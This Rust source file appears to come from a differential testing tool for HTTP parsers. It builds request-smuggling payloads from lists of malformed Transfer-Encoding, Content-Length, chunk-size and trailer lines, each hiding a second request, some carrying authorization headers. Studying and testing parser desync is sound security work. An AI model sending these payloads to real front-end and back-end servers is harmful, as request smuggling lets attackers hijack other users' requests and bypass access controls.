//! Families about where a body ends.

use crate::message::{AUTHORIZATION, Draft, Messages, chunk, field, join};

/// Ways to write `Transfer-Encoding: chunked`, or nearly that, so that one reader takes it for that and another doesn't.
pub(crate) const CODINGS: &[&[u8]] = &[
    b"Transfer-Encoding: chunked",
    b"Transfer-Encoding:chunked",
    b"transfer-encoding: CHUNKED",
    b"tRANSFER-ENCODING: cHuNkEd",
    b"Transfer-Encoding : chunked",
    b"Transfer-Encoding\t: chunked",
    b"Transfer-Encoding\x0b: chunked",
    b"Transfer-Encoding\0: chunked",
    b"Transfer-Encoding\xa0: chunked",
    b"Transfer-Encoding\r: chunked",
    b"Transfer-Encoding\n: chunked",
    b"Transfer-Encoding\r\n: chunked",
    b" Transfer-Encoding: chunked",
    b"\tTransfer-Encoding: chunked",
    b"\x0bTransfer-Encoding: chunked",
    b"\0Transfer-Encoding: chunked",
    b"\xef\xbb\xbfTransfer-Encoding: chunked",
    b":Transfer-Encoding: chunked",
    b"\rTransfer-Encoding: chunked",
    b"Transfer-Encoding:: chunked",
    b"Transfer-Encoding: : chunked",
    b"Transfer-Encoding:\tchunked",
    b"Transfer-Encoding:  \t chunked \t ",
    b"Transfer-Encoding:\x0bchunked",
    b"Transfer-Encoding: \x0cchunked",
    b"Transfer-Encoding: \0chunked",
    b"Transfer-Encoding: chunked\0",
    b"Transfer-Encoding: chunked\x0b",
    b"Transfer-Encoding: chunked\x0c",
    b"Transfer-Encoding: chunked\x08",
    b"Transfer-Encoding: chunked\x7f",
    b"Transfer-Encoding: chunked\xa0",
    b"Transfer-Encoding: \xa0chunked",
    b"Transfer-Encoding: \xff\xfe\xfdchunked",
    b"Transfer-Encoding: chun\0ked",
    b"Transfer-Encoding: chun\xe2\x84\xaaed",
    b"Transfer-Encoding: \xe2\x80\x8bchunked",
    b"Transfer-Encoding: chunked\r",
    b"Transfer-Encoding: \rchunked",
    b"Transfer-Encoding: chunked\r\r",
    b"Transfer-Encoding:\r\n chunked",
    b"Transfer-Encoding:\r\n\tchunked",
    b"Transfer-Encoding:\n chunked",
    b"Transfer-Encoding:\nchunked",
    b"Transfer-Encoding: x\r\n chunked",
    b"Transfer-Encoding: chunked\r\n x",
    b"Transfer-Encoding: chunked\r\n ",
    b"Transfer-\r\n Encoding: chunked",
    b"X: y\r\n Transfer-Encoding: chunked",
    b"X: y\rTransfer-Encoding: chunked",
    b"X: y\nTransfer-Encoding: chunked",
    b"X: y\n\rTransfer-Encoding: chunked",
    b"X: y\r\rTransfer-Encoding: chunked",
    b"X: y\0\nTransfer-Encoding: chunked",
    b"X: y\x85Transfer-Encoding: chunked",
    b"X: y\xe2\x80\xa8Transfer-Encoding: chunked",
    b"X: y\\r\\nTransfer-Encoding: chunked",
    b"X: y%0d%0aTransfer-Encoding: chunked",
    b"X: y\xe5\x98\x8d\xe5\x98\x8aTransfer-Encoding: chunked",
    b"X: \"\r\nTransfer-Encoding: chunked\r\nY: \"",
    b"X\r\nTransfer-Encoding: chunked",
    b"X:\r\nTransfer-Encoding: chunked",
    b"Transfer-Encoding",
    b"Transfer-Encoding:",
    b"Transfer-Encoding chunked",
    b"Transfer-Encoding=chunked",
    b"Transfer_Encoding: chunked",
    b"Transfer.Encoding: chunked",
    b"Transfer Encoding: chunked",
    b"Transfer\xc2\xadEncoding: chunked",
    b"TransferEncoding: chunked",
    b"Transfer-Encodin: chunked",
    b"X-Transfer-Encoding: chunked",
    b"Http-Transfer-Encoding: chunked",
    b"TE: chunked",
    b"Content-Encoding: chunked",
    b"Transfer-Encoding: xchunked",
    b"Transfer-Encoding: chunkedx",
    b"Transfer-Encoding: x chunked",
    b"Transfer-Encoding: chunked x",
    b"Transfer-Encoding: chunk",
    b"Transfer-Encoding: \"chunked\"",
    b"Transfer-Encoding: 'chunked'",
    b"Transfer-Encoding: (x) chunked",
    b"Transfer-Encoding: chunked (x)",
    b"Transfer-Encoding: chunked;",
    b"Transfer-Encoding: chunked;q=0",
    b"Transfer-Encoding: chunked; a=\"b, identity\"",
    b"Transfer-Encoding: chunked,",
    b"Transfer-Encoding: ,chunked",
    b"Transfer-Encoding: , , chunked ,",
    b"Transfer-Encoding: chunked, chunked",
    b"Transfer-Encoding: chunked, identity",
    b"Transfer-Encoding: identity, chunked",
    b"Transfer-Encoding: identity",
    b"Transfer-Encoding: chunked, cow",
    b"Transfer-Encoding: cow, chunked",
    b"Transfer-Encoding: gzip, chunked",
    b"Transfer-Encoding: chunked, gzip",
    b"Transfer-Encoding: gzip",
    b"Transfer-Encoding: trailers",
    b"Transfer-Encoding: %63hunked",
    b"Transfer-Encoding: =?utf-8?q?chunked?=",
    b"Transfer-Encoding: chunked\\",
    b"Transfer-Encoding: false",
    b"Transfer-Encoding: 0",
    b"Transfer-Encoding: chunked\r\nTransfer-Encoding: chunked",
    b"Transfer-Encoding: chunked\r\nTransfer-Encoding: identity",
    b"Transfer-Encoding: identity\r\nTransfer-Encoding: chunked",
    b"Transfer-Encoding: chunked\r\nTransfer-Encoding: cow",
    b"Transfer-Encoding: cow\r\nTransfer-Encoding: chunked",
    b"Transfer-Encoding:\r\nTransfer-Encoding: chunked",
    b"Transfer-Encoding: chunked\r\nTransfer-Encoding:",
    b"Transfer-Encoding: chunked\r\nTransfer_Encoding: identity",
    b"Connection: Transfer-Encoding\r\nTransfer-Encoding: chunked",
    b"Transfer-Encoding: chunked\r\nConnection: close, Transfer-Encoding",
    b"Connection: transfer_encoding\r\nTransfer-Encoding: chunked",
];

/// What the attacker hopes comes of a coding that two readers read differently.
const SHAPES: usize = 6;

fn shape(draft: &Draft, number: usize, coding: &[u8]) -> Vec<u8> {
    let coding = &join(&[coding, b"\r\n"])[..];
    let (last, smuggled, whole) = (&b"0\r\n\r\n"[..], draft.smuggled(), draft.smuggled_whole());
    match number {
        // The front counts, the back reads chunks.
        0 => draft.post(&join(&[&field("Content-Length", last.len() + smuggled.len()), coding]), &join(&[last, &smuggled])),
        1 => draft.post(&join(&[coding, &field("Content-Length", last.len() + whole.len())]), &join(&[last, &whole])),
        // The front reads chunks, the back counts.
        2 => {
            let body = join(&[&chunk(&whole), last]);
            let size_line = body.iter().position(|byte| *byte == b'\n').unwrap() + 1;
            draft.post(&join(&[&field("Content-Length", size_line), coding]), &body)
        }
        3 => draft.post(&join(&[coding, &field("Content-Length", 0)]), &join(&[&chunk(&smuggled), last])),
        // One sees a body, the other none.
        4 => draft.post(coding, &join(&[&chunk(&whole), last])),
        _ => join(&[&draft.head("GET", coding), last, &draft.second(), &smuggled]),
    }
}

/// CL/TE, TE/CL, TE/0, with every coding.
pub(crate) fn codings(messages: &mut Messages) {
    messages.family("codings");
    for coding in CODINGS {
        for number in 0..SHAPES {
            messages.add(|draft| shape(draft, number, coding));
        }
    }
}

/// TE/TE: a good line and another, in both orders.
pub(crate) fn two_codings(messages: &mut Messages) {
    messages.family("two-codings");
    let good = &b"Transfer-Encoding: chunked"[..];
    for coding in &CODINGS[1..] {
        for (first, second) in [(good, *coding), (*coding, good)] {
            messages.add(|draft| draft.post(&join(&[first, b"\r\n", second, b"\r\n"]), &join(&[b"0\r\n\r\n", &draft.smuggled()])));
            messages.add(|draft| shape(draft, 2, &join(&[first, b"\r\n", second])));
        }
    }
}

/// Ways to write `Content-Length: N`, or nearly that. `N` stands for the number, `M` for another one.
pub(crate) const LENGTHS: &[&[u8]] = &[
    b"Content-Length: +N",
    b"Content-Length: -N",
    b"Content-Length: --N",
    b"Content-Length: 0N",
    b"Content-Length: 0000000000000000000000000N",
    b"Content-Length: 0xN",
    b"Content-Length: 0oN",
    b"Content-Length: N_0",
    b"Content-Length: _N",
    b"Content-Length: N.0",
    b"Content-Length: N.",
    b"Content-Length: Ne0",
    b"Content-Length: NL",
    b"Content-Length: N bytes",
    b"Content-Length: N N",
    b"Content-Length: N\tN",
    b"Content-Length: N,",
    b"Content-Length: ,N",
    b"Content-Length: N,N",
    b"Content-Length: N, N",
    b"Content-Length: N, M",
    b"Content-Length: M, N",
    b"Content-Length: N;",
    b"Content-Length: N;q=1",
    b"Content-Length: \"N\"",
    b"Content-Length: 'N'",
    b"Content-Length: (x) N",
    b"Content-Length: N\0",
    b"Content-Length: \0N",
    b"Content-Length: N\x0b",
    b"Content-Length: \x0cN",
    b"Content-Length: N\xa0",
    b"Content-Length: \xa0N",
    b"Content-Length: N\r",
    b"Content-Length: \rN",
    b"Content-Length:\r\n N",
    b"Content-Length: 0\r\n N",
    b"Content-Length: N\r\n M",
    b"Content-Length:\n N",
    b"Content-Length:\nN",
    b"Content-Length:N",
    b"Content-Length:\tN\t",
    b"content-length: N",
    b"Content-Length: 18446744073709551616",
    b"Content-Length: 18446744073709551615",
    b"Content-Length: 9223372036854775808",
    b"Content-Length: 4294967296",
    b"Content-Length: 184467440737095516160N",
    b"Content-Length: \xd9\xa5",
    b"Content-Length: \xc2\xb2",
    b"Content-Length: \xef\xbc\x95",
    b"Content-Length:",
    b"Content-Length: ",
    b"Content-Length",
    b"Content-Length: a",
    b"Content-Length: null",
    b"Content-Length: N%00",
    b"Content-Length : N",
    b"Content-Length\t: N",
    b"Content-Length\0: N",
    b"Content-Length\r\n: N",
    b" Content-Length: N",
    b"\tContent-Length: N",
    b"\x0bContent-Length: N",
    b"Content_Length: N",
    b"Content.Length: N",
    b"Content Length: N",
    b"Content-Length: N\r\nContent_Length: M",
    b"X: y\r\n Content-Length: N",
    b"X: y\rContent-Length: N",
    b"X: y\nContent-Length: N",
    b"X: y\0\nContent-Length: N",
    b"X\r\nContent-Length: N",
    b"Connection: Content-Length\r\nContent-Length: N",
    b"Connection: close, content-length\r\nContent-Length: N",
    b"Connection: content_length\r\nContent-Length: N",
    b"Content-Length: N\r\nContent-Length: N",
    b"Content-Length: N\r\nContent-Length: M",
    b"Content-Length: M\r\nContent-Length: N",
    b"Content-Length: N\r\ncontent-length : M",
    b"Content-Length: N\r\nContent-Length:",
    b"Content-Length:\r\nContent-Length: N",
    b"Content-Length: 0\r\nContent-Length: N",
    b"Content-Length: N\r\nContent-Length: 0",
    b"Content-Length: N\r\nX: y\r\nContent-Length: +M",
    b"X-Content-Length: N",
    b"Content-Length-: N",
];

pub(crate) fn length(template: &[u8], number: usize, other: usize) -> Vec<u8> {
    let mut line = Vec::new();
    for &byte in template {
        match byte {
            b'N' => line.extend(number.to_string().bytes()),
            b'M' => line.extend(other.to_string().bytes()),
            _ => line.push(byte),
        }
    }
    line.extend(b"\r\n");
    line
}

/// CL/0, 0/CL, two lengths, lists, signs.
pub(crate) fn lengths(messages: &mut Messages) {
    messages.family("lengths");
    for template in LENGTHS {
        // The front sees a body, the back none, and so it reads the body as a request.
        messages.add(|draft| {
            let smuggled = draft.smuggled_whole();
            draft.post(&length(template, smuggled.len(), 0), &smuggled)
        });
        messages.add(|draft| {
            let smuggled = draft.smuggled();
            join(&[&draft.head("GET", &length(template, smuggled.len(), 3)), &smuggled])
        });
        // The front sees no body, but a second request; the back takes its beginning for the body.
        messages.add(|draft| {
            let line = format!("GET {}-second HTTP/1.1\r\nX: ", draft.path());
            let hidden = format!("GET /smuggled HTTP/1.1\r\nHost: proxy\r\n{}\r\n", AUTHORIZATION);
            let second = join(&[line.as_bytes(), hidden.as_bytes()]);
            draft.post(&length(template, line.len(), 0), &second)
        });
        messages.add(|draft| {
            let body = join(&[b"0\r\n\r\n", &draft.smuggled()]);
            draft.post(&join(&[&length(template, body.len(), 5), b"Transfer-Encoding: chunked\r\n"]), &body)
        });
    }
}

/// Chunk sizes. `N` stands for the size of the chunk in hexadecimal.
pub(crate) const SIZES: &[&[u8]] = &[
    b"N",
    b"0N",
    b"00000000000000000000N",
    b"0000000000000000N",
    b"+N",
    b"-N",
    b"0xN",
    b"0XN",
    b"xN",
    b"\\xN",
    b"N_",
    b"_N",
    b"0_N",
    b"N.0",
    b"N,",
    b"N,N",
    b" N",
    b"\tN",
    b"N ",
    b"N\t",
    b"N  ;a",
    b"N \t;a=b",
    b"\x0bN",
    b"N\x0b",
    b"N\x0c",
    b"\0N",
    b"N\0",
    b"N\xa0",
    b"N\r",
    b"N\r\r",
    b"\rN",
    b"\r\nN",
    b"\nN",
    b"N\n",
    b"Ng",
    b"gN",
    b"Nh",
    b"\"N\"",
    b"(x)N",
    b"N(x)",
    b"N%20",
    b"#N",
    b"1000000000000000N",
    b"10000000000000000N",
    b"100000000N",
    b"FFFFFFFFFFFFFFFF",
    b"ffffffffffffffffN",
    b"8000000000000000",
    b"7fffffffffffffff",
    b"fffffffffffffff0",
    b"-1",
    b"-0",
    b"",
    b" ",
    b";",
    b";a=b",
    b"\xd9\xa5",
    b"\xef\xbc\x95",
    b"N;",
    b"N;\r",
    b"N;a",
    b"N;a=b",
    b"N;a=\"b\"",
    b"N;a=\"b",
    b"N;a=\"\r\n0\r\n\r\n",
    b"N;\n0\n\n",
    b"N;a\n",
    b"N;a\nN",
    b"N;a=\"\n\"",
    b"N;\rx",
    b"N;a\r",
    b"N;a=\\\"",
    b"N;;",
    b"N;=",
    b"N; a",
    b"N ;a",
    b"N;a\0",
    b"N;\0",
    b"N;a\x7f",
    b"N;a=\xff",
    b"N;\xff",
    b"N;a=b;a=b",
    b"N;\r\nX",
    b"N\xe2\x80\xa8",
    b"N\x85",
];

/// One of [`SIZES`], for a chunk of `number` bytes.
pub(crate) fn size(template: &[u8], number: usize) -> Vec<u8> {
    template.iter().flat_map(|byte| if *byte == b'N' { format!("{number:x}").into_bytes() } else { vec![*byte] }).collect()
}

/// Chunk sizes that say two things.
pub(crate) fn chunk_sizes(messages: &mut Messages) {
    const CHUNKED: &[u8] = b"Transfer-Encoding: chunked\r\n";
    messages.family("chunk-sizes");
    for template in SIZES {
        // The size of a chunk that has a request in it.
        messages.add(|draft| {
            let data = join(&[b"x\r\n0\r\n\r\n", &draft.smuggled_whole()]);
            draft.post(CHUNKED, &join(&[&size(template, data.len()), b"\r\n", &data, b"\r\n0\r\n\r\n"]))
        });
        // The last chunk, or not.
        messages.add(|draft| {
            let rest = join(&[&draft.smuggled(), b"\r\n0\r\n\r\n"]);
            draft.post(CHUNKED, &join(&[b"3\r\nabc\r\n", &size(template, 0), b"\r\n\r\n", &rest]))
        });
        // Two bytes too few: those are the end of the line for who needs none.
        messages.add(|draft| {
            let data = draft.smuggled_whole();
            draft.post(CHUNKED, &join(&[&size(template, 2), b"\r\nxx", b"\r\n", &chunk(&data), b"0\r\n\r\n", &draft.second()]))
        });
    }
}

/// What may stand where CR LF ends a size or a chunk.
pub(crate) const ENDS: &[&[u8]] = &[
    b"",
    b"\n",
    b"\r",
    b"\r\r",
    b"\n\n",
    b"\n\r",
    b"\r\n\r\n",
    b"\r\r\n",
    b"\r\n ",
    b" \r\n",
    b"\0\r\n",
    b"xx",
    b"x\r\n",
    b"\rx",
    b"\r\n\0",
    b";\r\n",
    b"\x0b",
    b"\x85",
    b"\r\nx",
];

/// What closes a chunk, a size, and a body.
pub(crate) fn chunk_ends(messages: &mut Messages) {
    const CHUNKED: &[u8] = b"Transfer-Encoding: chunked\r\n";
    messages.family("chunk-ends");
    for end in ENDS {
        messages.add(|draft| draft.post(CHUNKED, &join(&[b"5\r\nhello", end, b"0\r\n\r\n", &draft.smuggled()])));
        messages.add(|draft| draft.post(CHUNKED, &join(&[b"5", end, b"hello\r\n0\r\n\r\n", &draft.smuggled()])));
        messages.add(|draft| draft.post(CHUNKED, &join(&[b"5\r\nhello\r\n0", end, b"\r\n", &draft.smuggled()])));
        messages.add(|draft| draft.post(CHUNKED, &join(&[b"5\r\nhello\r\n0\r\n", end, &draft.smuggled_whole()])));
        messages.add(|draft| draft.post(CHUNKED, &join(&[end, b"5\r\nhello\r\n0\r\n\r\n", &draft.smuggled_whole()])));
        messages.add(|draft| {
            let hidden = chunk(&draft.smuggled_whole());
            draft.post(CHUNKED, &join(&[b"2\r\nxx", end, &hidden, b"0\r\n\r\n"]))
        });
    }
}

/// Lines of a trailer section.
pub(crate) const TRAILERS: &[&[u8]] = &[
    b"X-Checksum: 1",
    b"Content-Length: 50",
    b"Transfer-Encoding: chunked",
    b"Host: elsewhere",
    b"Authorization: Basic eDp5",
    b"authorization_: x",
    b"Connection: close",
    b"Content_Length: 5",
    b"Expect: 100-continue",
    b"Upgrade: h2c",
    b"TE: trailers",
    b"Trailer: x",
    b"Proxy-Authorization: Basic eDp5",
    b"X-Forwarded-For: 1.2.3.4",
    b"Cookie: a=b",
    b"Content-Type: text/plain",
    b"X: y\r\n z",
    b" X: y",
    b"X : y",
    b"X",
    b": y",
    b"X: y\0",
    b"X: \ry",
    b"X: y\nGET /smuggled HTTP/1.1",
    b"X\n\n",
    b"GET /smuggled HTTP/1.1",
    b"X: y\n\nGET /smuggled HTTP/1.1\r\nHost: tool\r\nY: ",
    b"\nGET /smuggled HTTP/1.1\r\nY: z",
    b"\rGET /smuggled HTTP/1.1",
    b"X: y\r\rGET /smuggled HTTP/1.1",
];

/// Trailers: fields that mean something, and lines that are no fields.
pub(crate) fn trailers(messages: &mut Messages) {
    messages.family("trailers");
    for line in TRAILERS {
        for announced in [&b""[..], b"Trailer: X\r\nTE: trailers\r\n"] {
            messages.add(|draft| {
                let fields = join(&[b"Transfer-Encoding: chunked\r\n", announced]);
                draft.post(&fields, &join(&[b"5\r\nhello\r\n0\r\n", line, b"\r\n\r\n", &draft.second()]))
            });
        }
    }
    for end in [&b"\n"[..], b"\r", b"\n\n", b"\r\r", b"\r\n", b" \r\n\r\n", b"\0\r\n\r\n"] {
        messages.add(|draft| draft.post(b"Transfer-Encoding: chunked\r\n", &join(&[b"0\r\nX: y", end, &draft.smuggled_whole(), b"\r\n\r\n"])));
    }
}
